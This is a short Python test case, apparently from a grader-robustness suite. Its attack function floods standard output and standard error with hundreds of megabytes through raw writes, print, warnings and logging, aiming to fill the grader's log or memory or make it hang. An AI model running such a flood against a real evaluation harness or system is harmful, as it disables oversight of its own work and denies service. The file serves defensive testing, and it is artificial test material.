"""Flood standard output and standard error, up to 400 MB.

Tries: `print`, the descriptors themselves, the C library's buffers, warnings and logging.
Success: the grader's log or memory fills, or the grader hangs.
Outcome: refused or timeout or memory.
"""

import logging
import os
import sys
import warnings


def attack(targets, model):
    block = b"A" * (1 << 20)
    for _ in range(100):
        os.write(1, block)
        os.write(2, block)
    for _ in range(20):
        print("B" * (1 << 20))
        print("C" * (1 << 20), file=sys.stderr)
        sys.__stdout__.write("D" * (1 << 20))
    for number in range(1000):
        warnings.warn("E" * 1000 + str(number), stacklevel=1)
        logging.getLogger().error("F" * 1000)
    return ""
